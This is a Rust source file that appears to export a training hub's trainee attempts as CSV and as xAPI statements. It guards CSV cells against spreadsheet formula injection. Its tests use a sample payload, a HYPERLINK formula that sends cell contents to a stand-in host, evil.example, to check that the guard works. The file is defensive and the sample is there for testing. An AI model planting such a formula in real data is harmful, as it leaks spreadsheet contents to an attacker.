//! A class's attempts for other tools: a CSV for spreadsheets, and xAPI
//! 1.0.3 statements (one per attempt) for the company's learning record store.

use std::collections::HashMap;

use serde_json::{Value, json};

use callsim_core::points::Skill;

use super::store::{AttemptRow, ClassRow, PillarScore, TraineeRow};
use super::verify::HubScenarios;

/// One row per attempt, oldest first.
pub fn csv(class: &ClassRow, trainees: &[TraineeRow], attempts: &[AttemptRow]) -> Result<String, String> {
    let names: HashMap<i64, &str> = trainees.iter().map(|t| (t.id, t.name.as_str())).collect();
    let mut out = ::csv::Writer::from_writer(Vec::new());
    let mut header = vec![
        "class",
        "join_code",
        "trainee",
        "scenario",
        "attempt_id",
        "finished_at",
        "seed",
        "language",
        "ending",
        "ending_kind",
        "success",
        "over_accommodated",
        "verified",
        "respect",
        "sincerity",
    ];
    header.extend(Skill::ALL.map(Skill::name));
    header.extend(["respect_raw", "sincerity_raw"]);
    out.write_record(&header).map_err(|e| e.to_string())?;
    for a in attempts {
        // Every text cell is guarded, not only the names: a scenario id,
        // an ending or (from before languages were checked) a language
        // from an unchecked upload is the game's word too.
        let mut row = vec![
            as_text(&class.name),
            as_text(&class.join_code),
            as_text(names.get(&a.trainee_id).copied().unwrap_or_default()),
            as_text(&a.scenario),
            as_text(&a.id),
            as_text(&a.finished_at),
            a.seed.to_string(),
            as_text(&a.language),
            as_text(&a.ending),
            as_text(&a.ending_kind),
            a.success.to_string(),
            a.over_accommodated.to_string(),
            a.verified.to_string(),
            a.respect.percent.to_string(),
            a.sincerity.percent.to_string(),
        ];
        row.extend(a.skills.iter().map(u8::to_string));
        row.extend([a.respect.raw.to_string(), a.sincerity.raw.to_string()]);
        out.write_record(&row).map_err(|e| e.to_string())?;
    }
    let bytes = out.into_inner().map_err(|e| e.to_string())?;
    String::from_utf8(bytes).map_err(|e| e.to_string())
}

/// A text cell, kept from being read as a formula when the CSV is opened
/// in a spreadsheet (`=HYPERLINK(...)` as a trainee's name or a scenario
/// id): a leading `=`, `+`, `-`, `@`, tab, carriage return or line feed
/// gets an apostrophe in front, as OWASP advises. Numbers the hub writes
/// itself (a negative raw total) are not text cells.
fn as_text(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// The verb every statement uses.
pub const COMPLETED: &str = "http://adlnet.gov/expapi/verbs/completed";

/// Keeps an id usable inside an IRI path.
fn iri_segment(id: &str) -> String {
    id.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(b).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

fn score(p: PillarScore) -> Value {
    let (min, max) = (p.worst.min(p.raw), p.best.max(p.raw));
    json!({
        "scaled": f64::from(p.percent) / 100.0,
        "raw": p.raw,
        "min": min,
        "max": max,
    })
}

/// One `completed` statement per attempt. `base` is the hub's own address
/// (`http://host:port`): activity and extension ids live under it.
pub fn xapi(
    class: &ClassRow,
    trainees: &[TraineeRow],
    attempts: &[AttemptRow],
    library: &HubScenarios,
    base: &str,
) -> Vec<Value> {
    let names: HashMap<i64, &str> = trainees.iter().map(|t| (t.id, t.name.as_str())).collect();
    let class_iri = format!("{base}/class/{}", iri_segment(&class.join_code));
    let ext = |name: &str| format!("{base}/xapi/{name}");
    attempts
        .iter()
        .map(|a| {
            let both = PillarScore {
                percent: ((u16::from(a.respect.percent) + u16::from(a.sincerity.percent)) / 2) as u8,
                raw: a.respect.raw + a.sincerity.raw,
                worst: a.respect.worst + a.sincerity.worst,
                best: a.respect.best + a.sincerity.best,
            };
            let mut overall = score(both);
            // The mean of the two pillars, unrounded.
            overall["scaled"] = json!((f64::from(a.respect.percent) + f64::from(a.sincerity.percent)) / 200.0);
            let title = library.title(&a.scenario).unwrap_or_else(|| a.scenario.clone());
            let title_lang = library
                .scenario(&a.scenario)
                .map_or_else(|| "en".to_owned(), |s| s.default_language.clone());
            let skills: serde_json::Map<String, Value> = Skill::ALL
                .iter()
                .zip(a.skills)
                .map(|(s, p)| (s.name().to_owned(), json!(f64::from(p) / 100.0)))
                .collect();
            let mut statement = json!({
                "id": a.id,
                "version": "1.0.3",
                "actor": {
                    "objectType": "Agent",
                    "name": names.get(&a.trainee_id).copied().unwrap_or_default(),
                    "account": {"homePage": class_iri, "name": format!("trainee-{}", a.trainee_id)},
                },
                "verb": {"id": COMPLETED, "display": {"en-US": "completed"}},
                "object": {
                    "objectType": "Activity",
                    "id": format!("{base}/scenarios/{}", iri_segment(&a.scenario)),
                    "definition": {
                        "name": {title_lang: title},
                        "type": "http://adlnet.gov/expapi/activities/simulation",
                    },
                },
                "result": {
                    "score": overall,
                    "success": a.success,
                    "completion": true,
                    "extensions": {
                        ext("respect"): score(a.respect),
                        ext("sincerity"): score(a.sincerity),
                        ext("sub-skills"): skills,
                        ext("ending"): {"id": a.ending, "kind": a.ending_kind},
                        ext("over-accommodated"): a.over_accommodated,
                        ext("verified"): a.verified,
                    },
                },
                "context": {
                    "platform": "callsim",
                    "language": a.language,
                    "contextActivities": {
                        "grouping": [{"objectType": "Activity", "id": class_iri, "definition": {"name": {"en-US": class.name}}}],
                    },
                    "extensions": {ext("seed"): a.seed.to_string()},
                },
                "timestamp": a.finished_at,
            });
            // xAPI wants an RFC 5646 tag there; an attempt stored before
            // uploads' languages were checked may carry anything.
            if !crate::is_language_tag(&a.language)
                && let Some(context) = statement["context"].as_object_mut()
            {
                context.remove("language");
            }
            statement
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use callsim_core::wire::Mode;

    const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

    fn formula_everywhere() -> (ClassRow, Vec<TraineeRow>, Vec<AttemptRow>) {
        let class = ClassRow {
            id: 1,
            join_code: FORMULA.into(),
            name: FORMULA.into(),
            mode: Mode::Practice,
            secret_hash: String::new(),
            scenarios: Vec::new(),
            created_at: "2026-12-01T09:00:00.000000Z".into(),
            closed_at: None,
        };
        let trainee = TraineeRow {
            id: 7,
            class_id: 1,
            name: FORMULA.into(),
            joined_at: "2026-12-01T09:00:00.000000Z".into(),
        };
        let pillar = PillarScore {
            percent: 40,
            raw: -3,
            worst: -10,
            best: 8,
        };
        let attempt = AttemptRow {
            id: FORMULA.into(),
            trainee_id: 7,
            class_id: 1,
            scenario: FORMULA.into(),
            seed: 1,
            language: FORMULA.into(),
            body: String::new(),
            verified: false,
            ending: FORMULA.into(),
            ending_kind: FORMULA.into(),
            over_accommodated: false,
            success: false,
            respect: pillar,
            sincerity: pillar,
            skills: [40; 4],
            finished_at: FORMULA.into(),
            received_at: FORMULA.into(),
        };
        (class, vec![trainee], vec![attempt])
    }

    #[test]
    fn no_text_cell_of_the_csv_starts_a_formula() {
        let (class, trainees, attempts) = formula_everywhere();
        let text = csv(&class, &trainees, &attempts).expect("a csv");
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let headers = reader.headers().expect("a header").clone();
        let row = reader.records().next().expect("a row").expect("readable");
        let mut guarded = 0;
        for (name, cell) in headers.iter().zip(row.iter()) {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "{name} would run as a formula: {cell}"
            );
            if cell == format!("'{FORMULA}") {
                guarded += 1;
            }
        }
        assert_eq!(
            guarded, 9,
            "class, join code, trainee, scenario, attempt id, finished_at, language, ending, ending kind:\n{text}"
        );
        // Numbers the hub writes stay numbers.
        let raw = headers.iter().position(|h| h == "respect_raw").expect("a column");
        assert_eq!(&row[raw], "-3");
    }

    #[test]
    fn a_stored_language_that_is_no_tag_stays_out_of_the_xapi_context() {
        let (class, trainees, attempts) = formula_everywhere();
        let statements = xapi(
            &class,
            &trainees,
            &attempts,
            &HubScenarios::default(),
            "http://hub",
        );
        assert!(
            statements[0]["context"].get("language").is_none(),
            "{}",
            statements[0]
        );
        assert_eq!(statements[0]["context"]["platform"], "callsim");
    }
}
